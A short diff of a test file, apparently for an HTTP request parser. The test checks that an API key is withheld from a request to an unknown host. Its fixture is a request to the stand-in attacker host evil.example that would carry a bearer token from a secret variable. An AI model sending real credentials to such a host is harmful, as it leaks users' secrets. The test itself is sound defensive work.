@@ -209,7 +209,7 @@ POST http://h/
   it('gives a key only to an address that it belongs to, and leaves the user their own', async () => {
     const text = 'GET https://evil.example/\nAuthorization: Bearer {{MODAL_API_KEY}}\n';
     const secretOf = () => Promise.resolve(undefined);
-    await expect(specsOf(text, {}, { secretOf })).rejects.toMatchObject({ kind: 'signedOut' });
+    await expect(specsOf(text, {}, { secretOf })).rejects.toThrow('No key is known for https://evil.example');
     const [own] = await specsOf(text, { environment: { MODAL_API_KEY: 'mine' } }, { secretOf });
     expect(own).toMatchObject({ headers: { Authorization: 'Bearer mine' } });
     expect(own!.auth).toBeUndefined();
